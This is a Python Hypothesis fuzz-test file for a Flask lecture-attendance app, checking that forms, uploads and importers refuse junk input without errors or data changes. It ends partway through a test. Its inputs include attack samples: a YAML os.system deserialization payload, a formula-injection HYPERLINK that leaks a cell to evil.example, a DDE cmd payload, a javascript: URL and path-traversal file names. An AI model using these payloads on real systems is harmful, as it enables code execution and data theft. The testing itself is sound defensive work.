"""Every form and importer fed generated input: never a 500, and a refusal changes nothing.

Each example compares the database with its own snapshot taken just before the request (the
autouse cleanup runs only between tests), so examples may follow each other in any order: an
input that happens to be valid may change the data, and later examples compare against that.
"""
from __future__ import annotations

import hashlib
import io
import re
import tempfile
import warnings
import zipfile
from datetime import timedelta
from pathlib import Path

import pytest
import sqlalchemy as sa
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook

from lecturehub.accounts import services as account_services
from lecturehub.accounts.models import User
from lecturehub.attendance import services as attendance_services
from lecturehub.core.timeutil import utcnow
from lecturehub.courses.content import ContentError, import_content
from lecturehub.courses.models import Course, LectureVenue
from lecturehub.extensions import db
from lecturehub.quizzes.models import Question

from .conftest import PASSWORD

FUZZ = settings(max_examples=25, deadline=None, print_blob=True,
                suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
                                       HealthCheck.data_too_large])
FEW = settings(FUZZ, max_examples=12)

# --- generated values -------------------------------------------------------------------------------

# Surrogates cannot travel in HTTP (UTF-8), so the text strategies leave them out.
any_text = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=120)
SCRIPTS = ("abcXYZ019 -_.党课要点第一分会场主讲ащфيبعבר한국어ไทยहि😀🇨🇳\u200b\u202e\u0301\ufeff\u3000"
           "%_'\"<>&;\\/{}[]#*")
CONTROLS = "".join(chr(c) for c in range(32) if chr(c) not in "\t\n\r") + "\x7f\x85\x9f"
mixed_text = st.text(alphabet=st.sampled_from(SCRIPTS + CONTROLS + "\t\n\r"), min_size=1, max_size=60)
with_control = st.builds(lambda a, c, b: a + c + b, mixed_text, st.sampled_from(CONTROLS), mixed_text)
over_long = st.builds(lambda ch, n: ch * n, st.sampled_from(["a", "党", "😀", "x\n"]),
                      st.sampled_from([41, 65, 81, 121, 129, 201, 301, 501, 1001, 2001, 4001, 20001, 100001]))
numbers = st.one_of(
    st.integers(min_value=-10**40, max_value=10**40).map(str),
    st.floats().map(str),
    st.sampled_from(["NaN", "sNaN", "-Infinity", "1e999", "-0", "0x10", "１２３", "٣", "2147483648",
                     "9223372036854775808", "1,5", "1.05", "99.95", "100"]),
)
blank = st.sampled_from(["", " ", "\t", "\r\n", "\u3000"])
junk = st.one_of(any_text, mixed_text, with_control, over_long, numbers, blank)
# A value or several values for one name ("wrong type": a list where one value is expected).
junk_value = st.one_of(junk, junk, st.lists(junk, min_size=2, max_size=3))
DATES = ["2020-02-30T10:00", "2021-02-29T10:00", "0001-01-01T00:00", "0001-01-01T07:59", "9999-12-31T23:59",
         "2020-12-29T14:00+08:00", "2020-12-29T06:00Z", "2020-12-29 14:00", "2020-13-01T10:00",
         "2020-12-29T24:00", "1991-04-14T02:30", "1899-12-31T23:59", "2101-01-01T00:00", "2020-12-29",
         "29/12/2020 14:00", "20201229T1400"]
DAYS = ["2020-02-30", "2021-02-29", "0001-01-01", "9999-12-31", "1999-12-31", "2101-01-01", "2020-13-01",
        "2020-1-1", "2020/01/01", "20200101", "2020-01-01T00:00", "2020-01-01+08:00"]


def form_data(valid: dict, junk_values=junk_value):
    """Each field keeps its valid value or gets junk; with several fields nearly every form is invalid."""
    return st.fixed_dictionaries({name: st.one_of(st.just(value), junk_values) for name, value in valid.items()})


# --- the database before and after -------------------------------------------------------------------

def snapshot(exclude: tuple[str, ...] = ()) -> dict[str, tuple[int, str]]:
    """Row count and a checksum of the contents of every table."""
    db.session.close()
    result = {}
    with db.engine.connect() as conn:
        for table in db.metadata.sorted_tables:
            if table.name in exclude:
                continue
            rows = sorted(repr(tuple(row)) for row in conn.execute(sa.select(table)))
            result[table.name] = (len(rows), hashlib.sha256("\n".join(rows).encode()).hexdigest())
    return result


MESSAGE_MARKERS = ('class="error"', "flash-error", 'class="lead"')


def judge(response, before, exclude: tuple[str, ...] = (), success=(200, 302, 303)) -> bool:
    """No 5xx; a refusal (4xx) shows a message and changed nothing. Returns whether the data changed."""
    body = response.get_data().decode("utf-8", errors="replace")
    assert response.status_code < 500, body[:3000]
    after = snapshot(exclude)
    if 400 <= response.status_code < 500:
        assert after == before, f"a refused request ({response.status_code}) changed the database"
        if response.mimetype == "text/html":
            assert any(marker in body for marker in MESSAGE_MARKERS), body[:3000]
    else:
        assert response.status_code in success, (response.status_code, body[:1000])
    return after != before


def refused(response, before, exclude: tuple[str, ...] = ()) -> None:
    judge(response, before, exclude)
    assert 400 <= response.status_code < 500, response.status_code


# --- the scene ------------------------------------------------------------------------------------------

@pytest.fixture
def scene(org, open_lecture):
    """A lecture open for check-in at three venues, with a pending leave request and a quiz question."""
    lecture = open_lecture
    link = db.session.scalar(sa.select(LectureVenue).where(LectureVenue.lecture_id == lecture.id,
                                                           LectureVenue.venue_id == org["branch_a"]))
    member2 = db.session.get(User, org["member_a2"])
    leave = attendance_services.request_leave(member2, lecture, "家中有事")
    db.session.commit()
    question = db.session.scalar(sa.select(Question).where(Question.lecture_id == lecture.id))
    return {**org, "lecture": lecture.id, "course": lecture.course_id, "link": link.id, "leave": leave.id,
            "question": question.id}


def signed_in(client, username: str):
    """Sign in once per test: the client (and its session) lives across a test's examples."""
    current = getattr(client, "fuzz_user", None)
    if current != username:
        if current is not None:
            client.submit("/logout", {}, token_from="/home")
        client.login(username)
        client.fuzz_user = username
    return client


# --- sign-in and password ---------------------------------------------------------------------------------

@FUZZ
@given(data=form_data({"username": "m0001", "password": "not-the-password-1"}))
def test_login(client, org, data):
    # A wrong password is refused and still recorded: the audit log keeps failed sign-ins on purpose.
    before = snapshot(exclude=("audit_event",))
    response = client.submit("/login", data)
    refused(response, before, exclude=("audit_event",))


@FUZZ
@given(data=form_data({"current_password": PASSWORD, "new_password": "Neues-Passwort-9",
                       "confirm": "Neues-Passwort-9"}))
def test_password_change(client, org, data):
    signed_in(client, "m0001")
    before = snapshot()
    response = client.submit("/account/password", data)
    if judge(response, before):
        # A valid change happened: put the known password back for the next example.
        with client.application.app_context():
            user = db.session.scalar(sa.select(User).where(User.username == "m0001"))
            user.set_password(PASSWORD)
            db.session.commit()


# --- check-in ----------------------------------------------------------------------------------------------

@FUZZ
@given(code=junk_value)
def test_checkin_code_and_scan(client, scene, code):
    signed_in(client, "m0001")
    token = client.csrf_token(f"/lectures/{scene['lecture']}")
    for url in (f"/lectures/{scene['lecture']}/checkin", f"/checkin/{scene['link']}"):
        before = snapshot()
        refused(client.post(url, data={"csrf_token": token, "code": code}), before)


@FUZZ
@given(member=junk_value)
def test_desk_checkin(client, scene, member):
    signed_in(client, "coord01")
    before = snapshot()
    refused(client.submit(f"/desk/{scene['link']}", {"member": member}), before)


# --- leave ---------------------------------------------------------------------------------------------------

@FUZZ
@given(reason=junk_value)
def test_leave_request(client, scene, reason):
    signed_in(client, "m0001")
    before = snapshot()
    judge(client.submit(f"/lectures/{scene['lecture']}/leave", {"reason": reason}), before)


@FUZZ
@given(data=form_data({"note": "同意", "approve": "批准"}), refuse=st.one_of(st.none(), junk))
def test_leave_decision(client, scene, data, refuse):
    signed_in(client, "coord01")
    if refuse is not None:
        data["refuse"] = refuse
    before = snapshot()
    judge(client.submit(f"/leave/{scene['leave']}/decide", data, token_from=f"/roster/{scene['link']}"), before)


# --- roster ----------------------------------------------------------------------------------------------------

@FUZZ
@given(data=form_data({"member_id": "0", "status": "absent", "reason": "病假"}))
def test_roster_status_change(client, scene, data):
    signed_in(client, "coord01")
    if data["member_id"] == "0":
        data["member_id"] = str(scene["member_a"])
    before = snapshot()
    judge(client.submit(f"/roster/{scene['link']}/status", data, token_from=f"/roster/{scene['link']}"), before)


def csv_bytes(rows: list[list[str]], encoding: str) -> bytes:
    text = "\n".join(",".join(row) for row in rows)
    return text.encode(encoding, errors="replace")


def xlsx_bytes(rows: list[list]) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    for row in rows:
        try:
            sheet.append(row)
        except Exception:  # openpyxl refuses characters XML cannot hold; that row is left out
            continue
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def zip_of(entries: list[tuple[str, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w") as archive:
        warnings.simplefilter("ignore")  # duplicate names are part of the junk
        for name, data in entries:
            archive.writestr(zipfile.ZipInfo(name or "x"), data)
    return buffer.getvalue()


cells = st.one_of(junk, st.sampled_from(["m0001", "m0002", "m0003", "编号", "姓名", "第1分会场", "b01", "党员",
                                         "管理员", "=1+1", "@SUM(A1)"]),
                  st.integers(min_value=-10**20, max_value=10**20), st.floats(allow_nan=True), st.none())
table_rows = st.lists(st.lists(cells, min_size=0, max_size=5), min_size=0, max_size=8)
spreadsheet_files = st.one_of(
    st.builds(lambda rows, enc: ("sheet.csv", csv_bytes([[str(c) for c in row] for row in rows], enc)),
              table_rows, st.sampled_from(["utf-8", "utf-8-sig", "gb18030", "utf-16", "latin-1"])),
    st.builds(lambda rows: ("sheet.xlsx", xlsx_bytes(rows)), table_rows),
    st.builds(lambda name, data: (name, data), st.sampled_from(["sheet.xlsx", "sheet.csv", "sheet.exe", "sheet",
                                                                "../../sheet.csv", "表.XLSX"]),
              st.one_of(st.binary(max_size=300), st.just(b""), st.just(b"PK\x03\x04" + b"\x00" * 40),
                        st.builds(lambda e: zip_of(e), st.lists(st.tuples(st.sampled_from(
                            ["[Content_Types].xml", "xl/workbook.xml", "xl/worksheets/sheet1.xml"]),
                            st.binary(max_size=100)), max_size=3)))),
)


@FUZZ
@given(upload=spreadsheet_files)
def test_roster_sheet_upload(client, scene, upload):
    signed_in(client, "coord01")
    name, data = upload
    before = snapshot()
    response = client.submit(f"/roster/{scene['link']}/sheet", {"sheet": (io.BytesIO(data), name)},
                             token_from=f"/roster/{scene['link']}", content_type="multipart/form-data")
    judge(response, before)


@FUZZ
@given(upload=spreadsheet_files)
def test_members_import(ctx, org, upload):
    """The `members import` CLI's service: a RosterError listing problems, or every row applied."""
    name, data = upload
    before = snapshot()
    try:
        account_services.import_roster(name, data, password="Start-Passwort-1")
    except account_services.RosterError as exc:
        assert exc.problems and all(str(p) for p in exc.problems)
        db.session.rollback()
        assert snapshot() == before


ROSTER_HEADERS = ["序号", "姓名", "编号", "党员编号", "工号", "分会场", "所在分会场", "所在支部", "角色", "身份", "性别",
                  "联系电话", "备注", "", None]
roster_cells = st.one_of(cells, st.sampled_from(["m0003", "M0001", " m0002 ", "王芳", "魏源", "分会场负责人", "预备党员",
                                                 "第2分会场、第1分会场", "main"]))
roster_tables = st.builds(lambda header, rows: [header, *rows],
                          st.lists(st.sampled_from(ROSTER_HEADERS), min_size=0, max_size=6),
                          st.lists(st.lists(roster_cells, min_size=0, max_size=6), min_size=0, max_size=6))
roster_files = st.one_of(
    spreadsheet_files,
    st.builds(lambda rows, enc: ("花名册.csv", csv_bytes([["" if c is None else str(c) for c in row] for row in rows],
                                                          enc)), roster_tables, st.sampled_from(["utf-8-sig", "gbk"])),
    st.builds(lambda rows: ("花名册.xlsx", xlsx_bytes(rows)), roster_tables),
    st.builds(lambda data: ("花名册.xls", data), st.sampled_from([b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 500,
                                                                  b"\xd0\xcf\x11\xe0"])),
)


@FUZZ
@given(upload=roster_files, choice=st.sampled_from(["update", "skip", "", "both", "\x00"]),
       effective=st.one_of(st.just("2026-12-01"), st.sampled_from(DAYS), junk))
def test_roster_import_preview_and_confirm(client, org, upload, choice, effective):
    """The browser's roster import: a preview writes nothing; a confirmation applies all of it or nothing."""
    signed_in(client, "admin")
    name, data = upload
    before = snapshot()
    response = client.submit("/admin/roster", {"roster": (io.BytesIO(data), name)}, token_from="/admin/roster",
                              content_type="multipart/form-data")
    judge(response, before)
    assert snapshot() == before, "a preview changed the database"
    page = response.get_data(as_text=True)
    if 'name="digest"' not in page:
        return
    fields = {key: value for key, value in re.findall(r'name="(token|digest|filename)"[^>]*value="([^"]*)"', page)}
    fields.update({name: choice for name in set(re.findall(r'name="(name_\d+)"', page))})
    fields["effective_on"] = effective
    fields["left_ids"] = re.findall(r'name="left_ids"[^>]*value="(\d+)"', page)[:1]
    judge(client.submit("/admin/roster/apply", fields, token_from="/admin/roster"), before)


def test_members_import_cli_refuses_garbage(app, org, tmp_path):
    path = tmp_path / "roster.xlsx"
    path.write_bytes(b"PK\x03\x04 not a workbook")
    before = snapshot()
    result = app.test_cli_runner().invoke(args=["members", "import", str(path)])
    assert result.exit_code == 1 and "nothing was imported" in result.output
    assert snapshot() == before


# --- check-in settings -------------------------------------------------------------------------------------------

@FUZZ
@given(data=form_data({"checkin_opens_minutes": "30", "checkin_grace_minutes": "10", "checkin_closes_minutes": "0"}))
def test_checkin_settings(client, scene, data):
    signed_in(client, "admin")
    before = snapshot()
    judge(client.submit(f"/lectures/{scene['lecture']}/checkin-settings", data), before)


# --- courses and lectures -------------------------------------------------------------------------------------

@FUZZ
@given(data=form_data({"title": "专题二", "slug": "c2", "description_md": "说明", "position": "1", "published": "y"}))
def test_course_editor(client, scene, data):
    signed_in(client, "admin")
    before = snapshot()
    judge(client.submit("/admin/courses/new", data), before)
    before = snapshot()
    judge(client.submit(f"/admin/courses/{scene['course']}/edit", data), before)


def lecture_fields(scene) -> dict:
    return {"course_id": str(scene["course"]), "title": "新党课", "slug": "new-lecture", "speaker": "主讲人",
            "host": "主持人", "starts_at": "2026-12-01T14:00", "ends_at": "2026-12-01T16:00", "format": "online",
            "study_hours": "2.0", "venue_ids": [str(scene["branch_a"])], "key_points_md": "导语\n\n## 要点一\n\n内容",
            "published": "y"}


@FUZZ
@given(data=st.data())
def test_lecture_editor(client, scene, data):
    signed_in(client, "admin")
    fields = data.draw(form_data(lecture_fields(scene), st.one_of(junk_value, st.sampled_from(DATES))))
    for url in ("/admin/lectures/new", f"/admin/lectures/{scene['lecture']}/edit"):
        before = snapshot()
        judge(client.submit(url, fields), before)


@pytest.mark.parametrize("starts_at, ends_at", [
    ("2020-02-30T10:00", "2020-03-01T10:00"),   # no such day
    ("0001-01-01T00:00", "0001-01-01T02:00"),   # before UTC's year 1 once converted
    ("9999-12-31T20:00", "9999-12-31T23:59"),
    ("2026-12-01T16:00", "2026-12-01T14:00"),   # ends before it starts
    ("2026-12-01T14:00", "2026-12-01T14:00"),   # ends as it starts
    ("2026-12-01T14:00+08:00", "2026-12-01T16:00+08:00"),  # aware: the editor takes Beijing wall-clock time
    ("1991-04-14T02:30", "1991-04-14T04:00"),   # a DST gap when Shanghai still had summer time
])
def test_lecture_editor_dates(client, scene, starts_at, ends_at):
    signed_in(client, "admin")
    fields = dict(lecture_fields(scene), starts_at=starts_at, ends_at=ends_at)
    before = snapshot()
    response = client.submit("/admin/lectures/new", fields)
    refused(response, before)
    assert response.status_code == 422


def test_lecture_editor_stores_beijing_time_in_utc(client, scene):
    signed_in(client, "admin")
    response = client.submit("/admin/lectures/new", dict(lecture_fields(scene), starts_at="2100-12-31T23:30",
                                                         ends_at="2100-12-31T23:59"))
    assert response.status_code == 302
    from lecturehub.courses.models import Lecture

    lecture = db.session.scalar(sa.select(Lecture).where(Lecture.slug == "new-lecture"))
    assert lecture.starts_at.isoformat() == "2100-12-31T15:30:00+00:00"


@FUZZ
@given(text=st.one_of(junk_value, st.just("党" * 100001)))
def test_markdown_preview(client, org, text):
    signed_in(client, "admin")
    token = client.csrf_token("/admin/content")
    before = snapshot()
    response = client.post("/admin/preview", data={"text": text}, headers={"X-CSRFToken": token})
    judge(response, before)
    assert response.status_code in (200, 413)


# --- materials ------------------------------------------------------------------------------------------------------

upload_names = st.one_of(mixed_text, st.sampled_from(["a.pdf", "a.PDF", "a.docx", "a.png", "a.jpg", "a.exe", ".pdf",
                                                      "../../a.pdf", "a.pdf\x00.exe", "a" * 300 + ".pdf", ""]))
upload_bodies = st.one_of(st.binary(max_size=400), st.just(b""), st.just(b"MZ\x90\x00" + b"\x00" * 60),
                          st.just(b"PK\x03\x04" + b"\xff" * 60),
                          st.builds(zip_of, st.lists(st.tuples(st.sampled_from(
                              ["[Content_Types].xml", "word/document.xml", "../x", "a/../../b"]),
                              st.binary(max_size=50)), max_size=3)))


def upload_files(app) -> set[str]:
    folder = Path(app.config["UPLOAD_FOLDER"])
    return set(p.name for p in folder.iterdir()) if folder.exists() else set()


@FUZZ
@given(name=upload_names, body=upload_bodies, title=st.one_of(st.just(""), junk))
def test_material_upload(app, client, scene, name, body, title):
    signed_in(client, "admin")
    before, files = snapshot(), upload_files(app)
    response = client.submit(f"/admin/lectures/{scene['lecture']}/materials/upload",
                             {"file": (io.BytesIO(body), name), "title": title},
                             token_from=f"/admin/lectures/{scene['lecture']}/materials",
                             content_type="multipart/form-data")
    judge(response, before)
    if response.status_code >= 400:
        assert upload_files(app) == files, "a refused upload left a file behind"


@FUZZ
@given(data=form_data({"title": "录像", "url": "https://example.org/video"},
                      st.one_of(junk_value, st.sampled_from(["javascript:alert(1)", "http://", "https://a b",
                                                              "ftp://x", "//example.org", "https://" + "a" * 1000]))))
def test_material_link(client, scene, data):
    signed_in(client, "admin")
    before = snapshot()
    judge(client.submit(f"/admin/lectures/{scene['lecture']}/materials/link", data,
                        token_from=f"/admin/lectures/{scene['lecture']}/materials"), before)


# --- quiz bank, settings and the quiz itself -------------------------------------------------------------------

@FUZZ
@given(data=form_data({"kind": "single", "stem": "哪一年？", "options_text": "1921\n1949", "answer": "A",
                       "explanation": "解析", "key_point": ""},
                      st.one_of(junk_value, st.sampled_from(["truefalse", "multiple", "AB,C", "A,A", "ß", "I",
                                                              "true", "对", "\n".join("abcdefghij")]))))
def test_question_editor(client, scene, data):
    signed_in(client, "admin")
    for url in (f"/admin/lectures/{scene['lecture']}/quiz/new", f"/admin/questions/{scene['question']}/edit"):
        before = snapshot()
        judge(client.submit(url, data), before)


@FUZZ
@given(data=form_data({"quiz_pass_mark": "80", "draw_count": "", "shuffle_questions": "y",
                       "feedback": "after_submit", "max_attempts": "3"}))
def test_quiz_settings(client, scene, data):
    signed_in(client, "admin")
    before = snapshot()
    judge(client.submit(f"/admin/lectures/{scene['lecture']}/quiz", data), before)


@FUZZ
@given(direction=junk_value)
def test_question_move(client, scene, direction):
    signed_in(client, "admin")
    before = snapshot()
    refused(client.submit(f"/admin/questions/{scene['question']}/move", {"direction": direction},
                          token_from=f"/admin/lectures/{scene['lecture']}/quiz"), before)


@FUZZ
@given(answer=junk_value, action=st.one_of(st.just("submit"), st.just("save"), junk))
def test_quiz_answers(client, scene, answer, action):
    """Junk answers are never graded: no attempt is recorded (the sitting's autosaved draft may change)."""
    signed_in(client, "m0001")
    url = f"/lectures/{scene['lecture']}/quiz"
    data = {"csrf_token": client.csrf_token(url), f"q{scene['question']}": answer, "action": action}
    before = snapshot(exclude=("quiz_sitting",))
    response = client.post(url, data=data)
    changed = judge(response, before, exclude=("quiz_sitting",))
    assert not changed or response.status_code == 302


@FUZZ
@given(answer=junk_value)
def test_quiz_autosave(client, scene, answer):
    signed_in(client, "m0001")
    url = f"/lectures/{scene['lecture']}/quiz"
    token = client.csrf_token(url)
    before = snapshot(exclude=("quiz_sitting",))
    response = client.post(f"{url}/draft", data={f"q{scene['question']}": answer}, headers={"X-CSRFToken": token})
    judge(response, before, exclude=("quiz_sitting",))


yaml_scalars = st.one_of(junk, st.integers(), st.booleans(), st.none(), st.floats(),
                         st.sampled_from(["2020-02-30 10:00", "0001-01-01 00:00:00", "9999-12-31 23:59"]))


def _yaml_containers(inner):
    return st.one_of(st.lists(inner, max_size=3), st.dictionaries(st.text(max_size=8), inner, max_size=3))


yaml_values = st.recursive(yaml_scalars, _yaml_containers, max_leaves=6)


def yaml_dump(value) -> str:
    return yaml.safe_dump(value, allow_unicode=True)


QUESTION = {"id": "q1", "type": "single", "question": "哪一年？", "options": ["1921", "1949"], "answer": "A",
            "explanation": "解析"}
RAW_YAML = [
    "pass_mark: 80\nquestions: [" * 2000, "a: &a [*a, *a]\n", "!!python/object/apply:os.system ['true']\n",
    "questions:\n  - id: q1\n    type: [single]\n", "starts_at: 2020-02-30 10:00\n", "pass_mark: 0001-01-01\n",
    "questions: !!binary 'not base64'\n", "? [a, b]\n: c\n", "\ufeffquestions: []\n", "%YAML 9.9\n---\na: 1\n",
    "questions:\n  - {id: q1, type: truefalse, question: \"\\0\", answer: true, explanation: \"\\ud800\"}\n",
]
quiz_texts = st.one_of(
    st.builds(yaml_dump, st.fixed_dictionaries({"pass_mark": st.one_of(st.just(80), yaml_values),
                                                "questions": st.one_of(st.lists(form_data(QUESTION, yaml_values),
                                                                                max_size=3), yaml_values)})),
    st.sampled_from(RAW_YAML), any_text, mixed_text,
)
quiz_files = st.one_of(quiz_texts.map(lambda t: t.encode("utf-8", errors="surrogatepass")),
                       st.binary(max_size=300), st.just(b"\xff\xfe" + "questions: []".encode("utf-16-le")))


@FUZZ
@given(data=quiz_files, name=st.sampled_from(["quiz.yaml", "quiz.yml", "quiz.txt", "", "../quiz.yaml"]))
def test_quiz_bank_import(client, scene, data, name):
    signed_in(client, "admin")
    before = snapshot()
    response = client.submit(f"/admin/lectures/{scene['lecture']}/quiz/import", {"bank": (io.BytesIO(data), name)},
                             token_from=f"/admin/lectures/{scene['lecture']}/quiz", content_type="multipart/form-data")
    judge(response, before)


def test_quiz_bank_import_over_one_megabyte(client, scene):
    signed_in(client, "admin")
    before = snapshot()
    data = b"questions: []\n" + b"#" * (1024 * 1024)
    response = client.submit(f"/admin/lectures/{scene['lecture']}/quiz/import", {"bank": (io.BytesIO(data), "q.yaml")},
                             token_from=f"/admin/lectures/{scene['lecture']}/quiz", content_type="multipart/form-data")
    refused(response, before)


# --- content bundles and the content importer ---------------------------------------------------------------

COURSE = {"title": "专题", "description": "说明", "position": 1, "published": True}
LECTURE = {"title": "党课", "speaker": "主讲", "host": "主持", "starts_at": "2020-12-29 14:00",
           "ends_at": "2020-12-29 16:00", "format": "in_person", "study_hours": 2, "venues": "all", "published": True}
text_files = st.one_of(mixed_text, any_text, over_long, st.sampled_from(["## \n", "## " + "长" * 201 + "\n",
                                                                        "---\ntitle: [x]\n---\n", "---\n"]))


@st.composite
def content_trees(draw) -> list[tuple[str, bytes]]:
    """Files of a content bundle: each one valid or junk, under valid or junk folder names."""
    course_dir = draw(st.sampled_from(["fuzz-course", "Fuzz Course", "..", "c" * 81]))
    lecture_dir = draw(st.sampled_from(["l1", "L 1", "-x"]))
    files = {
        f"{course_dir}/course.yaml": draw(st.builds(yaml_dump, form_data(COURSE, yaml_values))),
        f"{course_dir}/{lecture_dir}/lecture.yaml": draw(st.one_of(
            st.builds(yaml_dump, form_data(LECTURE, st.one_of(yaml_values, st.sampled_from(DATES))))
            , st.sampled_from(RAW_YAML))),
        f"{course_dir}/{lecture_dir}/keypoints.md": draw(st.one_of(st.just("## 要点\n\n内容\n"), text_files)),
        f"{course_dir}/{lecture_dir}/quiz.yaml": draw(quiz_texts),
        f"{course_dir}/{lecture_dir}/materials/read.md": draw(st.one_of(
            st.just("---\ntitle: 读物\n---\n正文\n"), text_files)),
    }
    keep = draw(st.lists(st.sampled_from(sorted(files)), unique=True, min_size=1))
    return [(name, files[name].encode("utf-8", errors="surrogatepass")) for name in keep]


@FUZZ
@given(tree=content_trees())
def test_content_importer(ctx, org, tree):
    before = snapshot()
    with tempfile.TemporaryDirectory() as folder:
        root = Path(folder)
        for name, data in tree:
            path = root.joinpath(*name.split("/"))
            try:
                path.parent.mkdir(parents=True, exist_ok=True)
                path.write_bytes(data)
            except OSError:
                continue  # a folder name the file system itself refuses
        try:
            import_content(root)
        except ContentError as exc:
            assert exc.problems and all(str(p) for p in exc.problems)
            assert snapshot() == before


bundle_names = st.one_of(mixed_text, st.sampled_from(["../evil.yaml", "/abs/course.yaml", "a\\b.yaml", "a/", "a" * 300,
                                                      "x/" * 60 + "course.yaml"]))


@st.composite
def bundles(draw) -> bytes:
    kind = draw(st.integers(min_value=0, max_value=3))
    if kind == 0:
        return zip_of(draw(content_trees()))
    if kind == 1:
        return zip_of(draw(st.lists(st.tuples(bundle_names, st.binary(max_size=100)), max_size=4)))
    if kind == 2:
        data = bytearray(zip_of(draw(content_trees())))
        for index in draw(st.lists(st.integers(min_value=0, max_value=len(data) - 1), max_size=8)):
            data[index] = draw(st.integers(min_value=0, max_value=255))  # damage the archive
        return bytes(data)
    return draw(st.binary(max_size=300))


@FEW
@given(data=bundles())
def test_content_bundle_upload_and_apply(client, scene, data):
    signed_in(client, "admin")
    before = snapshot()
    response = client.submit("/admin/bundle", {"bundle": (io.BytesIO(data), "bundle.zip")},
                             content_type="multipart/form-data")
    judge(response, before)
    assert snapshot() == before, "a preview never writes"
    if response.status_code == 200:
        token = response.get_data(as_text=True).split('name="token"', 1)[1].split('value="', 1)[1].split('"', 1)[0]
        judge(client.submit("/admin/bundle/apply", {"token": token}, token_from="/admin/bundle"), before)


@FUZZ
@given(token=junk_value)
def test_content_bundle_apply_with_junk_token(client, org, token):
    signed_in(client, "admin")
    before = snapshot()
    refused(client.submit("/admin/bundle/apply", {"token": token}, token_from="/admin/bundle"), before)


# --- filters in query strings -------------------------------------------------------------------------------

@FUZZ
@given(params=form_data({"q": "张", "role": "member", "venue": "", "page": "1"}))
def test_user_filters(client, org, params):
    signed_in(client, "admin")
    before = snapshot()
    response = client.get("/admin/users", query_string=params)
    judge(response, before, success=(200,))


@FUZZ
@given(params=form_data({"course": "", "start": "2020-01-01", "end": "2020-12-31", "lecture": "", "table": "matrix",
                         "format": "csv"}, st.one_of(junk_value, st.sampled_from(DAYS))))
def test_report_overview_filters(client, scene, params):
    signed_in(client, "admin")
    before = snapshot()
    judge(client.get("/reports/overview", query_string=params), before, success=(200,))


@pytest.mark.parametrize("start, end", [("2020-02-30", ""), ("0001-01-01", ""), ("", "9999-12-31"),
                                        ("2020-12-31", "2020-01-01"), ("2020-01-01T00:00", ""),
                                        ("2020-01-01+08:00", "")])
def test_report_overview_date_edges(client, scene, start, end):
    signed_in(client, "admin")
    before = snapshot()
    refused(client.get("/reports/overview", query_string={"start": start, "end": end}), before)


@FUZZ
@given(year=st.one_of(junk_value, st.sampled_from(["0", "1", "1999", "2101", "9999", "10000"])),
       fmt=st.sampled_from([None, "csv", "xlsx", "pdf"]))
def test_report_year_filters(client, scene, year, fmt):
    signed_in(client, "coord01")
    params = {"year": year} if fmt is None else {"year": year, "format": fmt}
    for url in ("/reports/hours", f"/reports/hours/venues/{scene['branch_a']}", "/reports/me"):
        before = snapshot()
        judge(client.get(url, query_string=params), before, success=(200,))


# --- formula injection: text a user typed never becomes a formula in an export --------------------------------

FORMULA_LEADS = ["=", "+", "-", "@", "\t", "\r", "=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"详情\")",
                 "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "=1+1", "\t=1+1", "\r@x"]
PRINTABLE = "".join(ch for ch in SCRIPTS if ch not in "\ufeff")
formula_text = st.builds(lambda lead, rest: lead + rest, st.sampled_from(FORMULA_LEADS),
                         st.text(alphabet=st.sampled_from(PRINTABLE), max_size=30))
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")


def export_urls(scene) -> list[tuple[str, str]]:
    """(user, url) of every download, each as XLSX and as CSV."""
    lecture, course, venue = scene["lecture"], scene["course"], scene["branch_a"]
    urls = [("coord01", f"/reports/lectures/{lecture}"), ("coord01", f"/reports/lectures/{lecture}/venues/{venue}"),
            ("coord01", f"/reports/courses/{course}/venues/{venue}"), ("coord01", "/reports/hours"),
            ("coord01", f"/reports/hours/venues/{venue}"), ("coord01", f"/lectures/{lecture}/quiz/analysis"),
            ("admin", "/reports/overview?table=matrix"), ("admin", "/reports/overview?table=trend"),
            ("admin", "/reports/overview?table=ranking"), ("m0001", "/reports/me?table=attendance"),
            ("m0001", "/reports/me?table=quizzes")]
    return [(user, f"{url}{'&' if '?' in url else '?'}format={fmt}") for user, url in urls for fmt in ("xlsx", "csv")]


def assert_no_formula(url: str, data: bytes) -> list[str]:
    """Every text cell that a spreadsheet would read as a formula is neutralised; returns the texts."""
    if "format=xlsx" in url:
        from openpyxl import load_workbook

        cells = [c for row in load_workbook(io.BytesIO(data)).active.iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"], url
        texts = [c.value for c in cells if isinstance(c.value, str)]
    else:
        import csv

        texts = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]
        texts = [t for t in texts if not _is_number(t)]
    assert not [t for t in texts if t.startswith(TRIGGERS)], url
    return texts


@pytest.fixture
def export_clients(app):
    """Signed-in clients by user name, kept for all examples of a test (a sign-in hashes slowly on purpose)."""
    clients = {}

    def client_for(username: str):
        if username not in clients:
            clients[username] = app.test_client()
            clients[username].login(username)
        return clients[username]

    return client_for


def _is_number(text: str) -> bool:
    try:
        float(text.rstrip("%"))
    except ValueError:
        return False
    return True


@settings(FUZZ, max_examples=8)
@given(texts=st.fixed_dictionaries({key: formula_text for key in (
    "name", "other_name", "member_no", "venue", "title", "stem", "reason", "leave_reason", "note")}))
def test_formula_leading_text_is_never_a_formula_in_any_export(export_clients, scene, texts):
    """Names, numbers, venue, lecture title, question stem, roster reason, leave reason and decision note."""
    from lecturehub.attendance.models import AttendanceRecord, LeaveRequest, LeaveState, Status
    from lecturehub.courses.models import Lecture
    from lecturehub.venues.models import Venue

    lecture = db.session.get(Lecture, scene["lecture"])
    coordinator = db.session.get(User, scene["coord_a"])
    member, other = db.session.get(User, scene["member_a"]), db.session.get(User, scene["member_a2"])
    # A member number holds at most 32 characters (PostgreSQL enforces it; SQLite would not).
    member.name, other.name, other.member_no = texts["name"], texts["other_name"], texts["member_no"][:32]
    db.session.get(Venue, scene["branch_a"]).name = texts["venue"]
